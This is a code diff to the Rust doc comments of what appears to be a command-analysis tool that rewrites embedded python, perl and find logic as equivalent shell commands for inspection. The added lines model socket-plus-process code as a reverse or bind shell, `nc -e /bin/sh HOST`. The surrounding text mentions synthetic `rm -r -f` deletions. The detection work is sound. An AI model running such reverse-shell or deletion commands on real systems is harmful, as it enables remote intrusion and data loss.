@@ -33,7 +33,8 @@
 //!   become `rm [-r -f] PATH`, reads become `cat PATH`, writes become a command with an empty
 //!   argv and a Write/Append redirect, `perl -n/-p` loops read (and with `-i` write) their
 //!   files. A known call with a computed argument adds a problem ("python code not statically
-//!   analysable: …").
+//!   analysable: …"). Code that opens a socket and starts a process is a reverse or bind shell
+//!   (`nc -e /bin/sh HOST`); a variable read by name in printing code is `printenv NAME`.
 //! - **`find`** is recorded as it is, then each `-exec`/`-execdir`/`-ok`/`-okdir` command with
 //!   `{}` replaced by what find reaches (wrapper `find -exec` …), and for `-delete` a synthetic
 //!   `rm -r -f TARGET` per target (wrapper `find -delete`). A target is a starting point, or,
